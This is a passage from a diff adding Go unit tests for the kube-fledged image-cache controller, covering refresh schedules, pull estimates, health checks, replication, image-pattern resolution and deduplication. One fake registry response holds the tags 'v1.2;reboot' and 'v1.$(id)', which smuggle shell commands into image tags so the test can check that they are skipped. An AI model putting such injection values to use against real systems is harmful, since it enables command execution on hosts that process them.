+	// Images are not cached in a node not selected by the image lists
+	updates = nil
+	imageCache.Status.Reason = kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate
+	imageCache.Spec.CacheSpec[0].NodeSelector = map[string]string{"pool": "gpu"}
+	imagecacheInformer.Informer().GetIndexer().Update(&imageCache)
+	wqKey = images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheRefresh, Node: "bar"}
+	if err := controller.syncHandler(wqKey); err != nil {
+		t.Fatalf("Test: %s failed: expectedError=nil, actualError=%s", wqKey.WorkType, err.Error())
+	}
+	if len(updates) != 0 {
+		t.Errorf("Test: %s failed: expected no status update, actual %+v", wqKey.WorkType, updates[0].Status)
+	}
+}
+
+func TestSyncRefreshSchedule(t *testing.T) {
+	imageCache := func(schedule string) *kubefledgedv1alpha1.ImageCache {
+		return &kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:      "foo",
+				Namespace: "kube-fledged",
+			},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				RefreshSchedule: schedule,
+			},
+		}
+	}
+	tests := []struct {
+		name             string
+		objs             []interface{}
+		expectedSchedule string
+	}{
+		{
+			name:             "#1: No refresh schedule",
+			objs:             []interface{}{imageCache("")},
+			expectedSchedule: "",
+		},
+		{
+			name:             "#2: Refresh schedule added",
+			objs:             []interface{}{imageCache("0 * * * *")},
+			expectedSchedule: "0 * * * *",
+		},
+		{
+			name:             "#3: Refresh schedule updated",
+			objs:             []interface{}{imageCache("0 * * * *"), imageCache("*/5 * * * *")},
+			expectedSchedule: "*/5 * * * *",
+		},
+		{
+			name:             "#4: Refresh schedule removed from spec",
+			objs:             []interface{}{imageCache("0 * * * *"), imageCache("")},
+			expectedSchedule: "",
+		},
+		{
+			name:             "#5: Invalid refresh schedule",
+			objs:             []interface{}{imageCache("0 * * * *"), imageCache("every hour")},
+			expectedSchedule: "",
+		},
+		{
+			name: "#6: Image cache deleted",
+			objs: []interface{}{imageCache("0 * * * *"), cache.DeletedFinalStateUnknown{
+				Key: "kube-fledged/foo",
+				Obj: imageCache("0 * * * *"),
+			}},
+			expectedSchedule: "",
+		},
+	}
+
+	for _, test := range tests {
+		controller, _, _ := newTestController(&fakeclientset.Clientset{}, &kubefledgedclientsetfake.Clientset{})
+		for _, obj := range test.objs {
+			controller.syncRefreshSchedule(obj)
+		}
+		entries := controller.refreshScheduler.cron.Entries()
+		entry, exists := controller.refreshScheduler.entries["kube-fledged/foo"]
+		if test.expectedSchedule == "" {
+			if exists || len(entries) != 0 {
+				t.Errorf("Test: %s failed: expected no refresh schedule, actual %+v", test.name, entry)
+			}
+			continue
+		}
+		if !exists || entry.schedule != test.expectedSchedule || len(entries) != 1 {
+			t.Errorf("Test: %s failed: expected refresh schedule '%s', actual '%s' (%d entries)", test.name, test.expectedSchedule, entry.schedule, len(entries))
+		}
+	}
+}
+
+func TestEnqueueScheduledRefresh(t *testing.T) {
+	tests := []struct {
+		name           string
+		imageCache     *kubefledgedv1alpha1.ImageCache
+		workqueueItems int
+	}{
+		{
+			name:           "#1: Image cache not found",
+			imageCache:     nil,
+			workqueueItems: 0,
+		},
+		{
+			name: "#2: Do not refresh if image cache is under processing",
+			imageCache: &kubefledgedv1alpha1.ImageCache{
+				ObjectMeta: metav1.ObjectMeta{
+					Name:      "foo",
+					Namespace: "kube-fledged",
+				},
+				Status: kubefledgedv1alpha1.ImageCacheStatus{
+					Status: kubefledgedv1alpha1.ImageCacheActionStatusProcessing,
+				},
+			},
+			workqueueItems: 0,
+		},
+		{
+			name: "#3: Successfully queued for refresh",
+			imageCache: &kubefledgedv1alpha1.ImageCache{
+				ObjectMeta: metav1.ObjectMeta{
+					Name:      "foo",
+					Namespace: "kube-fledged",
+				},
+				Status: kubefledgedv1alpha1.ImageCacheStatus{
+					Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+				},
+			},
+			workqueueItems: 1,
+		},
+	}
+
+	for _, test := range tests {
+		controller, _, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, &kubefledgedclientsetfake.Clientset{})
+		if test.imageCache != nil {
+			imagecacheInformer.Informer().GetIndexer().Add(test.imageCache)
+		}
+		controller.enqueueScheduledRefresh("kube-fledged/foo")
+		if test.workqueueItems == 0 {
+			if controller.workqueue.Len() != 0 {
+				t.Errorf("Test: %s failed: expected empty workqueue, actual %d", test.name, controller.workqueue.Len())
+			}
+			continue
+		}
+		obj, _ := controller.workqueue.Get()
+		expected := images.WorkQueueKey{
+			WorkType:        images.ImageCacheCreate,
+			ObjKey:          "kube-fledged/foo",
+			ImagePullPolicy: string(corev1.PullAlways),
+		}
+		if obj != expected {
+			t.Errorf("Test: %s failed: expected %+v, actual %+v", test.name, expected, obj)
+		}
+		controller.workqueue.Done(obj)
+	}
+}
+
+func TestEstimatePulls(t *testing.T) {
+	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("user:password"))
+	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("Authorization") != basic {
+			w.Header().Set("WWW-Authenticate", `Basic realm="test"`)
+			w.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+		if r.URL.Path != "/v2/foo/bar/manifests/1.0" {
+			w.WriteHeader(http.StatusNotFound)
+			return
+		}
+		fmt.Fprint(w, `{"mediaType":"application/vnd.docker.distribution.manifest.v2+json","config":{"size":100},"layers":[{"size":1000},{"size":2000}]}`)
+	}))
+	defer server.Close()
+	host := strings.TrimPrefix(server.URL, "https://")
+	secret := &corev1.Secret{
+		ObjectMeta: metav1.ObjectMeta{Name: "registry", Namespace: fledgedNameSpace},
+		Type:       corev1.SecretTypeDockerConfigJson,
+		Data: map[string][]byte{corev1.DockerConfigJsonKey: []byte(`{"auths":{"` + host +
+			`":{"username":"user","password":"password"}}}`)},
+	}
+	imageCache := &kubefledgedv1alpha1.ImageCache{
+		ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: fledgedNameSpace},
+	}
+	nodeInfo := corev1.NodeSystemInfo{OperatingSystem: "linux", Architecture: "amd64"}
+	node1 := &corev1.Node{
+		ObjectMeta: metav1.ObjectMeta{Name: "node1", Labels: map[string]string{"kubernetes.io/hostname": "node1"}},
+		Status:     corev1.NodeStatus{NodeInfo: nodeInfo},
+	}
+	node2 := &corev1.Node{
+		ObjectMeta: metav1.ObjectMeta{Name: "node2", Labels: map[string]string{"kubernetes.io/hostname": "node2"}},
+		Status: corev1.NodeStatus{
+			NodeInfo: nodeInfo,
+			Images:   []corev1.ContainerImage{{Names: []string{host + "/foo/bar:1.0"}}},
+		},
+	}
+	secrets := &[]corev1.LocalObjectReference{{Name: "registry"}}
+	pulls := []images.ImageWorkRequest{
+		{Image: host + "/foo/bar:1.0", Node: node1, Imagecache: imageCache, ImagePullSecrets: secrets},
+		{Image: host + "/foo/bar:1.0", Node: node2, Imagecache: imageCache, ImagePullSecrets: secrets},
+		{Image: host + "/foo/missing:1.0", Node: node1, Imagecache: imageCache, ImagePullSecrets: secrets},
+	}
+
+	controller, _, _ := newTestController(fakeclientset.NewSimpleClientset(secret), &kubefledgedclientsetfake.Clientset{})
+	if estimates := controller.estimatePulls(imageCache, pulls); estimates != nil {
+		t.Errorf("Test: #1: Estimate disabled failed: expected no estimates, actual %+v", estimates)
+	}
+
+	controller.registryClient = registry.NewClient(server.Client())
+	controller.pullEstimateTimeout = time.Minute
+	expected := []kubefledgedv1alpha1.NodePullEstimate{
+		{Node: "node1", Bytes: 3100, UnknownImages: 1},
+		{Node: "node2"},
+	}
+	if estimates := controller.estimatePulls(imageCache, pulls); !reflect.DeepEqual(estimates, expected) {
+		t.Errorf("Test: #2: Estimate enabled failed: expected %+v, actual %+v", expected, estimates)
+	}
+}
+
+func TestHealthHandlers(t *testing.T) {
+	tests := []struct {
+		name           string
+		readiness      bool
+		queued         bool
+		processing     bool
+		startedBefore  time.Duration
+		standby        bool
+		leader         bool
+		stallThreshold time.Duration
+		expectedStatus int
+		expectedBody   string
+	}{
+		{
+			name:           "#1: Liveness of idle controller",
+			stallThreshold: time.Hour,
+			expectedStatus: http.StatusOK,
+			expectedBody:   "ok",
+		},
+		{
+			name:           "#2: Liveness with work item under processing since longer than threshold",
+			processing:     true,
+			stallThreshold: 0,
+			expectedStatus: http.StatusServiceUnavailable,
+			expectedBody:   "image cache work queue stalled: no work item processed",
+		},
+		{
+			name:           "#3: Liveness with work item under processing within threshold",
+			processing:     true,
+			stallThreshold: time.Hour,
+			expectedStatus: http.StatusOK,
+			expectedBody:   "ok",
+		},
+		{
+			name:           "#4: Liveness with work items queued and no worker waiting",
+			queued:         true,
+			stallThreshold: 0,
+			expectedStatus: http.StatusServiceUnavailable,
+			expectedBody:   "image cache work queue stalled: 1 work items queued",
+		},
+		{
+			name:           "#5: Liveness with informer caches not synced within threshold",
+			startedBefore:  time.Hour * 2,
+			stallThreshold: time.Hour,
+			expectedStatus: http.StatusServiceUnavailable,
+			expectedBody:   "informer caches not synced in 1h0m0s",
+		},
+		{
+			name:           "#6: Readiness with informer caches not synced",
+			readiness:      true,
+			expectedStatus: http.StatusServiceUnavailable,
+			expectedBody:   "informer caches not synced",
+		},
+		{
+			name:           "#7: Liveness of controller standing by for leadership",
+			startedBefore:  time.Hour * 2,
+			standby:        true,
+			stallThreshold: time.Hour,
+			expectedStatus: http.StatusOK,
+			expectedBody:   "ok",
+		},
+		{
+			name:           "#8: Readiness of controller standing by for leadership",
+			readiness:      true,
+			standby:        true,
+			expectedStatus: http.StatusOK,
+			expectedBody:   "ok",
+		},
+		{
+			name:           "#9: Liveness with informer caches not synced within threshold of election",
+			startedBefore:  time.Hour * 2,
+			standby:        true,
+			leader:         true,
+			stallThreshold: time.Hour,
+			expectedStatus: http.StatusOK,
+			expectedBody:   "ok",
+		},
+	}
+	for _, test := range tests {
+		controller, _, _ := newTestController(fakeclientset.NewSimpleClientset(), &kubefledgedclientsetfake.Clientset{})
+		controller.startTime = time.Now().Add(-test.startedBefore)
+		if test.standby {
+			controller.StandBy()
+		}
+		if test.leader {
+			controller.Lead()
+		}
+		if test.queued {
+			controller.workqueue.Add(images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheCreate})
+		}
+		if test.processing {
+			controller.queueProgress.Waiting()
+			controller.queueProgress.Started()
+		}
+		handler := controller.LivenessHandler(test.stallThreshold)
+		if test.readiness {
+			handler = controller.ReadinessHandler()
+		}
+		rec := httptest.NewRecorder()
+		handler.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/healthz", nil))
+		if rec.Code != test.expectedStatus || !strings.HasPrefix(rec.Body.String(), test.expectedBody) {
+			t.Errorf("Test: %s failed: expected %d %q, actual %d %q", test.name, test.expectedStatus, test.expectedBody, rec.Code, rec.Body.String())
+		}
+	}
+}
+
+func TestReplicateImageCache(t *testing.T) {
+	imageCache := kubefledgedv1alpha1.ImageCache{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:        "foo",
+			Namespace:   "kube-fledged",
+			Labels:      map[string]string{"app": "foo"},
+			Annotations: map[string]string{kubefledgedv1alpha1.ImageCacheRefreshAnnotationKey: ""},
+		},
+		Spec: kubefledgedv1alpha1.ImageCacheSpec{
+			CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+				{
+					Images: []string{"foo"},
+				},
+			},
+		},
+		Status: kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded},
+	}
+	replica := newReplica(&imageCache)
+	staleReplica := replica.DeepCopy()
+	staleReplica.Spec.CacheSpec[0].Images = []string{"bar"}
+	staleReplica.Annotations = map[string]string{kubefledgedv1alpha1.ImageCachePurgeAnnotationKey: ""}
+	notReplica := replica.DeepCopy()
+	delete(notReplica.Labels, replicaLabelKey)
+	tests := []struct {
+		name            string
+		homeCache       bool
+		remoteCache     *kubefledgedv1alpha1.ImageCache
+		expectErr       bool
+		expectedReplica *kubefledgedv1alpha1.ImageCache
+	}{
+		{
+			name:            "#1: Create replica",
+			homeCache:       true,
+			expectedReplica: replica,
+		},
+		{
+			name:        "#2: Update replica, keeping pending purge",
+			homeCache:   true,
+			remoteCache: staleReplica,
+			expectedReplica: func() *kubefledgedv1alpha1.ImageCache {
+				r := replica.DeepCopy()
+				r.Annotations[kubefledgedv1alpha1.ImageCachePurgeAnnotationKey] = ""
+				return r
+			}(),
+		},
+		{
+			name:            "#3: Image cache of remote cluster is not a replica",
+			homeCache:       true,
+			remoteCache:     notReplica,
+			expectErr:       true,
+			expectedReplica: notReplica,
+		},
+		{
+			name:        "#4: Delete replica of deleted image cache",
+			remoteCache: replica,
+		},
+		{
+			name:            "#5: Image cache of remote cluster is not deleted if not a replica",
+			remoteCache:     notReplica,
+			expectedReplica: notReplica,
+		},
+	}
+	for _, test := range tests {
+		remote := kubefledgedclientsetfake.NewSimpleClientset()
+		if test.remoteCache != nil {
+			remote.FledgedV1alpha1().ImageCaches("kube-fledged").Create(test.remoteCache.DeepCopy())
+		}
+		controller, _, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, &kubefledgedclientsetfake.Clientset{})
+		controller.remoteClusters = []RemoteCluster{{Name: "remote", Client: remote}}
+		controller.recorder = record.NewFakeRecorder(10)
+		if test.homeCache {
+			imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+		}
+		err := controller.replicateImageCache("kube-fledged/foo")
+		if (err != nil) != test.expectErr {
+			t.Errorf("Test: %s failed: expectErr=%t, actualErr=%v", test.name, test.expectErr, err)
+			continue
+		}
+		actual, err := remote.FledgedV1alpha1().ImageCaches("kube-fledged").Get("foo", metav1.GetOptions{})
+		if test.expectedReplica == nil {
+			if err == nil {
+				t.Errorf("Test: %s failed: replica not deleted", test.name)
+			}
+			continue
+		}
+		if err != nil {
+			t.Errorf("Test: %s failed: error getting replica: %v", test.name, err)
+			continue
+		}
+		if !reflect.DeepEqual(actual.Labels, test.expectedReplica.Labels) || !reflect.DeepEqual(actual.Annotations, test.expectedReplica.Annotations) ||
+			!reflect.DeepEqual(actual.Spec, test.expectedReplica.Spec) || actual.Status.Status != "" {
+			t.Errorf("Test: %s failed: expected replica %+v, actual %+v", test.name, test.expectedReplica, actual)
+		}
+	}
+}
+
+func TestSyncHandlerImagePatterns(t *testing.T) {
+	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path != "/v2/foo/bar/tags/list" {
+			w.WriteHeader(http.StatusNotFound)
+			return
+		}
+		// Tags not valid in an image are skipped
+		fmt.Fprint(w, `{"name":"foo/bar","tags":["v1.1","v2.0","v1.0","latest","v1.2;reboot","v1.$(id)"]}`)
+	}))
+	defer server.Close()
+	host := strings.TrimPrefix(server.URL, "https://")
+	resolvedTime := metav1.NewTime(time.Date(2020, time.March, 1, 0, 0, 0, 0, time.UTC))
+	tests := []struct {
+		name                   string
+		pattern                string
+		workType               images.WorkType
+		previousResolved       []kubefledgedv1alpha1.ResolvedImagePattern
+		expectErr              bool
+		expectedImages         []string
+		expectedResolvedImages []string
+	}{
+		{
+			name:                   "#1: Create - Pattern resolved",
+			pattern:                host + "/foo/bar:v1.*",
+			workType:               images.ImageCacheCreate,
+			expectedImages:         []string{"nginx", host + "/foo/bar:v1.0", host + "/foo/bar:v1.1"},
+			expectedResolvedImages: []string{host + "/foo/bar:v1.0", host + "/foo/bar:v1.1"},
+		},
+		{
+			name:                   "#2: Refresh - Tags of repository not found",
+			pattern:                host + "/foo/baz:v1.*",
+			workType:               images.ImageCacheRefresh,
+			previousResolved:       []kubefledgedv1alpha1.ResolvedImagePattern{{Pattern: host + "/foo/baz:v1.*", Images: []string{host + "/foo/baz:v1.0"}, ResolvedTime: resolvedTime}},
+			expectErr:              true,
+			expectedResolvedImages: []string{host + "/foo/baz:v1.0"},
+		},
+	}
+	for _, test := range tests {
+		imageCache := kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:      "foo",
+				Namespace: "kube-fledged",
+			},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+					{
+						Images:        []string{"nginx"},
+						ImagePatterns: []string{test.pattern},
+					},
+				},
+			},
+			Status: kubefledgedv1alpha1.ImageCacheStatus{ResolvedPatterns: test.previousResolved},
+		}
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		var updates []*kubefledgedv1alpha1.ImageCache
+		fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, imageCache.DeepCopy(), nil
+		})
+		fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			obj := action.(core.UpdateAction).GetObject().(*kubefledgedv1alpha1.ImageCache)
+			updates = append(updates, obj)
+			return true, obj, nil
+		})
+		controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+		controller.registryClient = registry.NewClient(server.Client())
+		nodeInformer.Informer().GetIndexer().Add(&node)
+		imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+		err := controller.syncHandler(images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: test.workType})
+		if (err != nil) != test.expectErr {
+			t.Errorf("Test: %s failed: expectErr=%t, actualErr=%v", test.name, test.expectErr, err)
+			continue
+		}
+		if len(updates) == 0 {
+			t.Errorf("Test: %s failed: status not updated", test.name)
+			continue
+		}
+		status := updates[len(updates)-1].Status
+		if len(status.ResolvedPatterns) != 1 || status.ResolvedPatterns[0].Pattern != test.pattern ||
+			!reflect.DeepEqual(status.ResolvedPatterns[0].Images, test.expectedResolvedImages) {
+			t.Errorf("Test: %s failed: expected images %v of pattern %s, actual %+v", test.name, test.expectedResolvedImages, test.pattern, status.ResolvedPatterns)
+		}
+		if test.expectErr {
+			if status.Reason != kubefledgedv1alpha1.ImageCacheReasonImagePatternNotResolved {
+				t.Errorf("Test: %s failed: expectedReason=%s, actualReason=%s", test.name, kubefledgedv1alpha1.ImageCacheReasonImagePatternNotResolved, status.Reason)
+			}
+			continue
+		}
+		actualImages := []string{}
+		for _, s := range status.Images {
+			actualImages = append(actualImages, s.Image)
+		}
+		if !reflect.DeepEqual(actualImages, test.expectedImages) {
+			t.Errorf("Test: %s failed: expected images %v, actual %v", test.name, test.expectedImages, actualImages)
+		}
+	}
+}
+
+func TestExpandImagePatterns(t *testing.T) {
+	cacheSpec := []kubefledgedv1alpha1.CacheSpecImages{
+		{Images: []string{"foo/bar:v1.0"}, ImagePatterns: []string{"foo/bar:v1.*"}},
+		{ImagePatterns: []string{"foo/baz:*"}},
+	}
+	resolved := []kubefledgedv1alpha1.ResolvedImagePattern{
+		{Pattern: "foo/bar:v1.*", Images: []string{"foo/bar:v1.0", "foo/bar:v1.1"}},
+	}
+	expandImagePatterns(cacheSpec, resolved)
+	if expected := []string{"foo/bar:v1.0", "foo/bar:v1.1"}; !reflect.DeepEqual(cacheSpec[0].Images, expected) {
+		t.Errorf("Test failed: expected %v, actual %v", expected, cacheSpec[0].Images)
+	}
+	if len(cacheSpec[1].Images) != 0 {
+		t.Errorf("Test failed: expected no images of pattern not resolved, actual %v", cacheSpec[1].Images)
+	}
+}
+
+func TestExcludeImages(t *testing.T) {
+	tests := []struct {
+		name             string
+		exclusions       []string
+		expectedImages   [][]string
+		expectedExcluded []string
+	}{
+		{
+			name:           "#1: No exclusions",
+			expectedImages: [][]string{{"foo:v1", "myrepo/app:v1", "myrepo/app:debug"}, {"bar", "myrepo/tools/app:debug"}},
+		},
+		{
+			name:             "#2: Exact image excluded",
+			exclusions:       []string{"bar"},
+			expectedImages:   [][]string{{"foo:v1", "myrepo/app:v1", "myrepo/app:debug"}, {"myrepo/tools/app:debug"}},
+			expectedExcluded: []string{"bar"},
+		},
+		{
+			name:             "#3: Images matching pattern excluded",
+			exclusions:       []string{"myrepo/*:debug"},
+			expectedImages:   [][]string{{"foo:v1", "myrepo/app:v1"}, {"bar", "myrepo/tools/app:debug"}},
+			expectedExcluded: []string{"myrepo/app:debug"},
+		},
+		{
+			name:             "#4: All images of image list excluded",
+			exclusions:       []string{"bar", "myrepo/*/*:*", "baz"},
+			expectedImages:   [][]string{{"foo:v1", "myrepo/app:v1", "myrepo/app:debug"}, nil},
+			expectedExcluded: []string{"bar", "myrepo/tools/app:debug"},
+		},
+	}
+	for _, test := range tests {
+		cacheSpec := []kubefledgedv1alpha1.CacheSpecImages{
+			{Images: []string{"foo:v1", "myrepo/app:v1", "myrepo/app:debug"}},
+			{Images: []string{"bar", "myrepo/tools/app:debug"}},
+		}
+		excluded := excludeImages(cacheSpec, test.exclusions)
+		if !reflect.DeepEqual(excluded, test.expectedExcluded) {
+			t.Errorf("Test: %s failed: expected excluded %v, actual %v", test.name, test.expectedExcluded, excluded)
+		}
+		for k := range cacheSpec {
+			if !reflect.DeepEqual(cacheSpec[k].Images, test.expectedImages[k]) {
+				t.Errorf("Test: %s failed: image list %d: expected %v, actual %v", test.name, k, test.expectedImages[k], cacheSpec[k].Images)
+			}
+		}
+	}
+}
+
+func TestNodesWithDeviceResources(t *testing.T) {
+	newNode := func(name string, allocatable corev1.ResourceList) *corev1.Node {
+		return &corev1.Node{
+			ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{"kubernetes.io/hostname": name}},
+			Status:     corev1.NodeStatus{Allocatable: allocatable},
+		}
+	}
+	nodes := []*corev1.Node{
+		newNode("cpu1", corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("4")}),
+		newNode("gpu1", corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("4"), "nvidia.com/gpu": resource.MustParse("1")}),
+		newNode("gpu4", corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("4"), "nvidia.com/gpu": resource.MustParse("4")}),
+	}
+	tests := []struct {
+		name          string
+		resources     corev1.ResourceList
+		expectedNodes []string
+	}{
+		{name: "#1: Nodes with device resource", resources: corev1.ResourceList{"nvidia.com/gpu": resource.MustParse("1")}, expectedNodes: []string{"gpu1", "gpu4"}},
+		{name: "#2: Nodes with enough of device resource", resources: corev1.ResourceList{"nvidia.com/gpu": resource.MustParse("2")}, expectedNodes: []string{"gpu4"}},
+		{name: "#3: No nodes with all device resources", resources: corev1.ResourceList{"nvidia.com/gpu": resource.MustParse("1"), "example.com/fpga": resource.MustParse("1")}, expectedNodes: []string{}},
+	}
+	for _, test := range tests {
+		selected := []string{}
+		for _, n := range nodesWithDeviceResources(nodes, test.resources) {
+			selected = append(selected, n.Name)
+		}
+		if !reflect.DeepEqual(selected, test.expectedNodes) {
+			t.Errorf("Test: %s failed: expected nodes %v, actual %v", test.name, test.expectedNodes, selected)
+		}
+	}
+}
+
+func TestValidateCacheSpec(t *testing.T) {
+	tests := []struct {
+		name              string
+		cacheSpec         []kubefledgedv1alpha1.CacheSpecImages
+		expectedErrString string
+	}{
+		{
+			name:      "#1: Valid cache spec",
+			cacheSpec: []kubefledgedv1alpha1.CacheSpecImages{{Images: []string{"foo"}}, {ImagePatterns: []string{"bar:v1.*"}}},
+		},
+		{
+			name:              "#2: Nil cache spec",
+			expectedErrString: "No image lists specified in cacheSpec",
+		},
+		{
+			name:              "#3: Empty cache spec",
+			cacheSpec:         []kubefledgedv1alpha1.CacheSpecImages{},
+			expectedErrString: "No image lists specified in cacheSpec",
+		},
+		{
+			name:              "#4: Empty images slice",
+			cacheSpec:         []kubefledgedv1alpha1.CacheSpecImages{{Images: []string{"foo"}}, {Images: []string{}}},
+			expectedErrString: "No images specified within image list 1 of cacheSpec",
+		},
+		{
+			name:              "#5: Empty image",
+			cacheSpec:         []kubefledgedv1alpha1.CacheSpecImages{{Images: []string{"foo", ""}}},
+			expectedErrString: "Blank image at index 1 of image list 0 of cacheSpec",
+		},
+		{
+			name:              "#6: Whitespace image",
+			cacheSpec:         []kubefledgedv1alpha1.CacheSpecImages{{Images: []string{"foo"}}, {Images: []string{" \t"}}},
+			expectedErrString: "Blank image at index 0 of image list 1 of cacheSpec",
+		},
+		{
+			name:              "#7: Whitespace image pattern",
+			cacheSpec:         []kubefledgedv1alpha1.CacheSpecImages{{Images: []string{"foo"}, ImagePatterns: []string{"bar:v1.*", " "}}},
+			expectedErrString: "Blank image pattern at index 1 of image list 0 of cacheSpec",
+		},
+	}
+	for _, test := range tests {
+		err := validateCacheSpec(test.cacheSpec)
+		if test.expectedErrString == "" {
+			if err != nil {
+				t.Errorf("Test: %s failed: unexpected error %v", test.name, err)
+			}
+			continue
+		}
+		if err == nil || err.Error() != test.expectedErrString {
+			t.Errorf("Test: %s failed: expectedError=%s, actualError=%v", test.name, test.expectedErrString, err)
+		}
+	}
+}
+
+func TestDeduplicatePulls(t *testing.T) {
+	node2 := corev1.Node{
+		ObjectMeta: metav1.ObjectMeta{
+			Labels: map[string]string{"kubernetes.io/hostname": "baz"},
+		},
+	}
+	digested := "foo@sha256:" + strings.Repeat("a", 64)
+	digests := map[string]string{
+		"foo:1.0":  "sha256:aaa",
+		"foo:v1":   "sha256:aaa",
+		digested:   "sha256:aaa",
+		"bar:v1":   "sha256:bbb",
+		"qux:v1":   "sha256:aaa",
+		"fooarm64": "sha256:aaa",
+	}
+	work := []images.ImageWorkRequest{
+		{Image: digested, Node: &node, WorkType: images.ImageCacheCreate, Optional: true},
+		{Image: "foo:1.0", Node: &node, WorkType: images.ImageCacheCreate},
+		{Image: "foo:v1", Node: &node, WorkType: images.ImageCacheCreate, Optional: true},
+		{Image: "foo:1.0", Node: &node, WorkType: images.ImageCacheCreate},
+		{Image: "foo:1.0", Node: &node2, WorkType: images.ImageCacheCreate},
+		{Image: "bar:v1", Node: &node, WorkType: images.ImageCacheCreate},
+		{Image: "fooarm64", Node: &node, WorkType: images.ImageCacheCreate, Platform: "linux/arm64"},
+		{Image: "qux:v1", Node: &node, WorkType: images.ImageCachePurge},
+		{Image: "unresolved", Node: &node, WorkType: images.ImageCacheCreate},
+	}
+	expected := []struct {
+		image    string
+		node     string
+		aliases  []string
+		optional bool
+	}{
+		{image: "foo:1.0", node: "bar", aliases: []string{digested, "foo:v1"}},
+		{image: "foo:1.0", node: "baz"},
+		{image: "bar:v1", node: "bar"},
+		{image: "fooarm64", node: "bar"},
+		{image: "qux:v1", node: "bar"},
+		{image: "unresolved", node: "bar"},
+	}
+	deduplicated := deduplicatePulls(work, digests)
+	if len(deduplicated) != len(expected) {
+		t.Fatalf("Test failed: expected %d pulls, actual %+v", len(expected), deduplicated)
+	}
+	for k, e := range expected {
+		ipr := deduplicated[k]
+		var aliases []string
+		if ipr.Aliases != nil {
+			aliases = *ipr.Aliases
+		}
+		if ipr.Image != e.image || ipr.Node.Labels["kubernetes.io/hostname"] != e.node || !reflect.DeepEqual(aliases, e.aliases) || ipr.Optional != e.optional {
+			t.Errorf("Test #%d failed: expected %s --> %s (aliases: %v, optional: %t), actual %s --> %s (aliases: %v, optional: %t)", k+1,
+				e.image, e.node, e.aliases, e.optional, ipr.Image, ipr.Node.Labels["kubernetes.io/hostname"], aliases, ipr.Optional)
+		}
+	}
+}
+
+func TestPodUsingImage(t *testing.T) {
+	running := corev1.ContainerState{Running: &corev1.ContainerStateRunning{}}
+	pods := []*corev1.Pod{
+		{
+			ObjectMeta: metav1.ObjectMeta{Name: "foo-ds-abcde", Namespace: "kube-system"},
+			Spec:       corev1.PodSpec{NodeName: "node1", Containers: []corev1.Container{{Name: "foo", Image: "foo:v1"}}},
+			Status:     corev1.PodStatus{ContainerStatuses: []corev1.ContainerStatus{{Name: "foo", State: running}}},
+		},
+		{
+			ObjectMeta: metav1.ObjectMeta{Name: "bar-ds-fghij", Namespace: "kube-system"},
+			Spec:       corev1.PodSpec{NodeName: "node2", Containers: []corev1.Container{{Name: "bar", Image: "bar:v1"}}},
+			Status:     corev1.PodStatus{ContainerStatuses: []corev1.ContainerStatus{{Name: "bar", State: running}}},
+		},
+	}
+	tests := []struct {
+		name       string
+		image      string
+		node       string
+		watchPods  bool
+		expectedBy string
+	}{
+		{name: "#1: Image in use in node", image: "docker.io/library/foo:v1", node: "node1", watchPods: true, expectedBy: "kube-system/foo-ds-abcde"},
+		{name: "#2: Image in use in another node", image: "bar:v1", node: "node1", watchPods: true},
+		{name: "#3: Image not in use", image: "foo:v2", node: "node1", watchPods: true},
+		{name: "#4: Pods not watched", image: "foo:v1", node: "node1"},
+	}
+	for _, test := range tests {
+		fakekubeclientset := &fakeclientset.Clientset{}
+		controller, _, _ := newTestController(fakekubeclientset, &kubefledgedclientsetfake.Clientset{})
+		if test.watchPods {
+			podInformer := kubeinformers.NewSharedInformerFactory(fakekubeclientset, noResyncPeriodFunc()).Core().V1().Pods()
+			if err := podInformer.Informer().AddIndexers(cache.Indexers{podNodeNameIndex: podNodeName}); err != nil {
+				t.Fatalf("Error adding pod indexer: %v", err)
+			}
+			for _, pod := range pods {
+				podInformer.Informer().GetIndexer().Add(pod)
+			}
+			controller.podIndexer = podInformer.Informer().GetIndexer()
+		}
+		n := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: test.node}}
+		if by := controller.podUsingImage(test.image, n); by != test.expectedBy {
+			t.Errorf("Test: %s failed: expected %q, actual %q", test.name, test.expectedBy, by)
+		}
+	}
+}
+
+func TestNotifyCompletion(t *testing.T) {
+	completionWebhookBackoff = time.Millisecond
+	tests := []struct {
+		name              string
+		specWebhook       bool
+		controllerWebhook bool
+		hostNotAllowed    bool
+		responses         []int
+		expectedAttempts  int
+	}{
+		{name: "#1: Summary posted to webhook of image cache", specWebhook: true, responses: []int{http.StatusOK}, expectedAttempts: 1},
